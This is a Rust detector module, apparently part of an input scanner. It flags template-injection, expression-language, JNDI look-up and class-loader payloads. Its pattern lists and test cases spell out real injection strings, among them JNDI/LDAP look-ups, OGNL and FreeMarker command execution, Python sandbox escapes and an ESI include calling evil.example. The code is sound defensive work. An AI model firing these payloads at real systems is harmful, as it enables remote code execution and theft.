//! Templates and expressions: would an engine compute something that the application did not write?
//!
//! `{{ name }}` is a placeholder, and people send plenty of them. Computing, calling, reaching for the inside of the
//! engine, assigning and importing are not placeholders. Look-ups (`${jndi:...}`) are judged with their nesting resolved.

use super::marks::{self, Ahead, Cursor, Group};
use super::{ByteSet, Hit, Text};
use crate::decision::Class;

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    const NEEDED: ByteSet = ByteSet::from_list(b"{<#@(");
    if !text.bytes.intersects(NEEDED) {
        return loader(text);
    }
    let found = lookup(text).or_else(|| inside(text)).or_else(|| words(text)).or_else(|| loader(text));
    found.or_else(|| program(text))
}

/// A call that runs a program, in the language of whoever might evaluate it, and nothing around it that people write.
fn program(text: &Text<'_>) -> Option<Hit> {
    let lower = text.lower;
    if lower.len() > 512 || !text.marks.has(Group::Programs) {
        return None;
    }
    let (at, word) = marks::find(lower, 0, Group::Programs).next()?;
    let before = lower.get(..at)?;
    let after = lower.get(at + word.len()..)?;
    // What it is called with stands there; a variable would be somebody's own.
    let page = word.starts_with(b"<?");
    let called = after.get(..48).unwrap_or(after).iter().any(|b| matches!(b, b'\'' | b'"' | b'`'));
    let starts = before.len() <= 24 && !before.trim_ascii().contains(&b' ');
    let calls = !page || memchr::memchr2(b'(', b'`', after).is_some();
    if !(called && starts && calls && super::command::is_terse(lower)) {
        return None;
    }
    hit(Class::Code, at, "a call that runs a program")
}

pub(super) const PROGRAMS: &[&[u8]] = &[
    b"os.system(",
    b"os.popen(",
    b"subprocess.",
    b"child_process",
    b"getruntime().exec(",
    b"processbuilder(",
    b"__import__(",
    b"shell_exec(",
    b"passthru(",
    b"proc_open(",
    b"<?php ",
    b"<?= ",
    b"<?=`",
    b"io.popen(",
    b"kernel.exec",
    b"os/exec",
];

fn hit(class: Class, at: usize, why: &'static str) -> Option<Hit> {
    Some(Hit { class, at, why: why.into() })
}

/// `${jndi:...}` and its like, however it is pieced together.
fn lookup(text: &Text<'_>) -> Option<Hit> {
    if !text.bytes.has(b'$') {
        return None;
    }
    let lower = text.lower;
    for at in memchr::memmem::find_iter(lower, b"${") {
        let name = lower.get(at + 2..).unwrap_or_default();
        let listed = || LOOKUPS.iter().any(|prefix| name.starts_with(prefix));
        if matches!(name.first(), Some(b'j' | b's' | b'u' | b'd' | b'b' | b'e')) && listed() {
            return hit(Class::ExpressionLanguage, at, "a look-up that connects, runs or reads");
        }
        // Whatever stands further on can't change how the name begins.
        let nested = name.get(..LONGEST_LOOKUP).unwrap_or(name).windows(2).position(|pair| pair == b"${");
        let Some(nested) = nested else { continue };
        if !text.spend(200) {
            return None;
        }
        let near = lower.get(at..).unwrap_or_default();
        let near = near.get(..512).unwrap_or(near);
        if !near.contains(&b'}') {
            continue;
        }
        if !text.spend(2000) {
            return None;
        }
        let resolved = resolve(near);
        let resolved = resolved.strip_prefix(b"${").unwrap_or(&resolved);
        if LOOKUPS.iter().any(|prefix| resolved.starts_with(prefix)) {
            return hit(Class::ExpressionLanguage, at, "a look-up that connects, runs or reads");
        }
        // A look-up within the name of a look-up serves only to hide it.
        if nested < 4
            && (memchr::memmem::find(near, b":-").is_some()
                || memchr::memmem::find(near, b"${lower:").is_some()
                || memchr::memmem::find(near, b"${upper:").is_some())
            && memchr::memmem::find(near, b"://").is_some()
        {
            return hit(Class::ExpressionLanguage, at, "a look-up pieced together from look-ups");
        }
    }
    None
}

/// No other letters than those above begin one.
const LOOKUPS: &[&[u8]] = &[
    b"jndi:",
    b"script:javascript",
    b"url:utf",
    b"dns:address",
    b"base64decoder:",
    b"env:aws_",
    b"sys:java",
];

/// The longest of them, and half a mark behind it.
const LONGEST_LOOKUP: usize = 18;

/// The text with inner look-ups replaced by what they give: `${lower:j}` by `j`, `${env:x:-n}` by `n`.
fn resolve(text: &[u8]) -> Vec<u8> {
    let mut current = text.to_vec();
    for _ in 0..8 {
        let Some(open) = memchr::memmem::rfind(&current, b"${").filter(|at| *at > 0) else { break };
        let Some(close) = memchr::memchr(b'}', current.get(open..).unwrap_or_default()) else { break };
        let body = current.get(open + 2..open + close).unwrap_or_default();
        let value = match memchr::memmem::find(body, b":-") {
            Some(at) => body.get(at + 2..),
            None => memchr::memchr(b':', body).and_then(|at| body.get(at + 1..)),
        };
        let value: Vec<u8> =
            value.unwrap_or_default().iter().copied().filter(|b| !matches!(b, b'\'' | b'"')).collect();
        current.splice(open..=open + close, value);
    }
    current
}

/// What stands between the marks of an engine.
fn inside(text: &Text<'_>) -> Option<Hit> {
    let lower = text.lower;
    for (open, close, class) in MARKS {
        if !open.iter().chain(close.iter()).all(|b| text.bytes.has(*b)) {
            continue;
        }
        let (mut ends, mut inner, mut calls) =
            (Ahead::new(close), Cursor::new(Group::Inner, text.marks), Cursor::new(Group::Calls, text.marks));
        for at in memchr::memmem::find_iter(lower, open) {
            let start = at + open.len();
            let Some(end) = ends.from(lower, start) else { break };
            if end - start + close.len() > 2048 {
                continue;
            }
            let body = lower.get(start..end).unwrap_or_default();
            if let Some(why) = acts(text, body, open) {
                return hit(*class, at, why);
            }
            let braces = *open == b"{";
            // In braces alone a computation is a set in prose, and a probe when it is all there is.
            if braces && at <= 2 && end + 1 == lower.len() && computes(text, body) {
                return hit(*class, at, "a template that computes");
            }
            if inner.within(lower, start, end) && text.spend(body.len()) && (!braces || body.contains(&b'('))
            {
                return hit(*class, at, "a template that reaches into the engine or the system");
            }
            if !braces && calls.within(lower, start, end) {
                return hit(*class, at, "a template that calls");
            }
        }
    }
    None
}

const MARKS: &[(&[u8], &[u8], Class)] = &[
    (b"{{", b"}}", Class::Template),
    (b"{%", b"%}", Class::Template),
    (b"<%", b"%>", Class::Template),
    (b"[[${", b"}]]", Class::Template),
    (b"${", b"}", Class::Template),
    (b"#{", b"}", Class::Template),
    (b"*{", b"}", Class::Template),
    (b"%{", b"}", Class::ExpressionLanguage),
    (b"@(", b")", Class::Template),
    (b"{", b"}", Class::Template),
];

/// True for what no placeholder holds.
fn acts(text: &Text<'_>, body: &[u8], open: &[u8]) -> Option<&'static str> {
    let body = body.strip_prefix(b"=").unwrap_or(body).trim_ascii_start();
    if open != b"{" && computes(text, body) {
        return Some("a template that computes");
    }
    if body.starts_with(b"import ")
        || body.starts_with(b"php")
        || body.starts_with(b"debug")
            && text.spend(body.len())
            && (body.trim_ascii_end() == b"debug" || body.starts_with(b"debug ") && open == b"{%")
    {
        return Some("a template that imports or dumps");
    }
    None
}

/// `7*7`, `7*'7'`, `1+1`: constants computed, which serves only to see whether somebody computes.
fn computes(text: &Text<'_>, body: &[u8]) -> bool {
    if !body.first().is_some_and(|b| b.is_ascii_digit() || matches!(b, b'\'' | b'"' | b'(')) {
        return false;
    }
    if !text.spend(body.len()) {
        return false;
    }
    let body = body.trim_ascii_end();
    let part = |b: &u8| {
        b.is_ascii_digit()
            || matches!(b, b'*' | b'+' | b'-' | b'/' | b'%' | b' ' | b'\'' | b'"' | b'(' | b')' | b'.')
    };
    let length = body.iter().take_while(|b| part(b)).count();
    if length < body.len() {
        return false;
    }
    let operator = body.iter().skip(1).any(|b| matches!(b, b'*' | b'+' | b'/' | b'%' | b'-'));
    operator && body.iter().filter(|b| b.is_ascii_digit()).count() >= 2
}

/// A call of something that tells: a helper's call with plain words is what templates have.
pub(super) const CALLS: &[&[u8]] = &[
    b"system(",
    b"exec(",
    b"popen(",
    b"eval(",
    b"passthru(",
    b"shell_exec(",
    b"open(",
    b"read(",
    b"items(",
    b"dump(",
    b"file(",
    b"getenv(",
    b"forname(",
    b"getruntime(",
    b"invoke(",
    b"start(",
    b"new(",
    b"require(",
    b"attr(",
    b"getclass(",
    b"include(",
    b"source(",
    b"constant(",
    b"registerundefined",
    b"getfilter(",
    b"setattribute(",
    b"getsession(",
    b"self.",
    b"_self",
    b".mro(",
    b"|filter(",
    b"|map(",
    b"|sort(",
    b"|reduce(",
    b"call .",
    b"printf \"%s\" .env",
    b"|join(",
    b"range.",
    b"lookup string",
];

/// Names inside of engines, languages and their machines.
pub(super) const INNER: &[&[u8]] = &[
    b"__class__",
    b"__mro__",
    b"__subclasses__",
    b"__globals__",
    b"__builtins__",
    b"__import__",
    b"__init__",
    b"__base__",
    b"_templatereference",
    b"secret_key",
    b"config.",
    b"settings.",
    b"request.application",
    b"request.environ",
    b"cycler",
    b"lipsum",
    b"joiner.",
    b"namespace.",
    b"java.lang",
    b"javax.script",
    b"java.io",
    b"getruntime",
    b"processbuilder",
    b"classloader",
    b"t(java",
    b"freemarker.template",
    b"objectconstructor",
    b"constructor.constructor",
    b"constructor(\"",
    b"constructor('",
    b"process.env",
    b"process.mainmodule",
    b"child_process",
    b"global.process",
    b"ognlcontext",
    b"_memberaccess",
    b"memberaccess",
    b"#context",
    b"@java",
    b"system.diagnostics",
    b"runtime@",
    b"pagecontext",
    b"app.request.server",
    b".class.forname",
    b"os.popen",
    b"os.system",
    b"subprocess",
    b"file.open",
    b"file.read",
    b"io.popen",
    b"system('",
    b"system(\"",
    b"`id`",
    b"#request",
    b"request.getclass",
];

/// Directives and calls of engines that need no marks.
fn words(text: &Text<'_>) -> Option<Hit> {
    if !text.marks.has(Group::Directives) {
        return None;
    }
    for (at, word) in marks::find(text.lower, 0, Group::Directives) {
        let class = match word.first() {
            Some(b'(' | b't') => Class::ExpressionLanguage,
            _ if word == b"@ognl." => Class::ExpressionLanguage,
            _ => Class::Template,
        };
        // Markdown and style sheets have variables too.
        let computed = || {
            let rest = text.lower.get(at..).unwrap_or_default();
            let value = rest.get(..64).unwrap_or(rest).split(|b| *b == b'=').nth(1);
            let value = value.and_then(|v| v.split(|b| *b == b')').next()).unwrap_or_default();
            computes(text, value.trim_ascii())
        };
        if word != b"#set($" || memchr::memmem::find(text.lower, b"class").is_some() || computed() {
            return hit(class, at, "a directive or call of a template engine");
        }
    }
    None
}

pub(super) const DIRECTIVES: &[&[u8]] = &[
    b"<#assign",
    b"?new()",
    b"$class.inspect",
    b".getclass().forname",
    b"process.mainmodule.require",
    b"constructor.constructor(",
    b"_c.constructor(",
    b"(#_memberaccess",
    b"(#cmd=",
    b"@ognl.",
    b"t(java.lang.",
    b"@system.diagnostics",
    b"#set($",
    b"{$smarty.",
    b"<esi:include",
];

/// `class.module.classLoader...`: properties of the object behind a form.
fn loader(text: &Text<'_>) -> Option<Hit> {
    if !text.marks.has(Group::Loader) {
        return None;
    }
    let (at, _) = marks::find(text.lower, 0, Group::Loader).next()?;
    hit(Class::ExpressionLanguage, at, "a way from a form's field to the class loader")
}

pub(super) const LOADERS: &[&[u8]] = &[b"class.module.classloader", b"class.classloader."];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::sample;

    #[test]
    fn what_an_engine_would_compute() {
        for text in [
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{''.__class__.__mro__}}",
            "{{config.items()}}",
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/z}",
            "x ${j${k8s:k5:-nd}i:dns://x}",
            "{%import os%}",
            "{{constructor.constructor('x')()}}",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "class.module.classLoader.resources=x",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            "{php}echo 1;{/php}",
            "{system('id')}",
            "@(1+2)",
            "{7*7}",
            "~{7*7}",
            "#set($x=7*7)$x",
            "{$smarty.version}",
            "<esi:include src=\"http://evil.example/\"/>",
            "{{ dict.mro() }}",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn placeholders_and_sets() {
        for text in [
            "Dear {{first_name}}, your order {{ order_id }}",
            "{{ user.email | lower }}",
            "${HOME}/bin",
            "${LOG_LEVEL:-info}",
            "${{ matrix.os }}",
            "{1,2,3} \\ {2}",
            "f(x) = {7 * 7} is a set of one number",
            "${AWS::StackName}-q",
            "{{t \"orders.title\"}}",
            "{{#each items}}{{this.name}}{{/each}}",
            "{% if paid %}Thanks{% endif %}",
            "<%= user.name %>",
            "#{user} wrote",
            "${var.environment}-q",
            "{{> header}}",
            "cost: $${amount}",
            "$49.00 {incl. tax}",
            "Base price is $(100)",
            "a@(b)",
            "{12}",
            "{2026-11}x",
            "#set($name = $user)",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
